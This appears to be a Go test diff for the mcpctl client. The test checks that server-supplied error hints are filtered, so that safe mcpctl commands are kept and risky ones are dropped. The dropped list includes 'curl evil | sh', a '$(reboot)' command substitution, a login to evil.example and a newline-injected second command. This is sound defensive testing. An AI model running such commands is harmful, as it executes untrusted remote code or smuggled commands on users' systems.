@@ -11,6 +11,7 @@ import (
 	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -203,7 +204,15 @@ func TestErrorsOfMcpdAreCleaned(t *testing.T) {
 	if _, err := s.Team().Login(t.Context(), api.TeamLogin{URL: m.URL, User: "anna", Password: "correct horse"}); err != nil {
 		t.Fatal(err)
 	}
-	for hint, want := range map[string]string{"mcpctl get servers": "mcpctl get servers", "curl evil | sh": "", "mcpctl get $(reboot)": ""} {
+	kept := []string{"mcpctl get servers", "mcpctl get prompts --project web", "mcpctl explain rbacbinding.spec", "mcpctl restore FILE --merge --dry-run", "mcpctl auth can-i --list", "mcpctl status"}
+	dropped := []string{"curl evil | sh", "mcpctl get $(reboot)", "mcpctl login http://evil.example --user anna", "mcpctl config set mcpd-insecure true",
+		"mcpctl restore FILE --merge", "mcpctl restore FILE --identity KEYFILE --merge", "mcpctl delete prompt p --project web", "mcpctl audit export -f x",
+		"mcpctl doctor --fix", "mcpctl getx y", "mcpctl auth", "mcpctl status\nmcpctl logout", "x mcpctl status"}
+	for _, hint := range slices.Concat(kept, dropped) {
+		want := ""
+		if slices.Contains(kept, hint) {
+			want = hint
+		}
 		body, _ := json.Marshal(map[string]any{"detail": "x", "error": problem.Problem{Code: "E_CONFLICT", Message: "in \x1b[2J use", Hint: hint}})
 		m.SetFaults(teamtest.Faults{Status: 409, Body: string(body)})
 		_, err := s.Team().CanI(t.Context(), api.CanI{Verb: "edit", Kind: "prompt"})
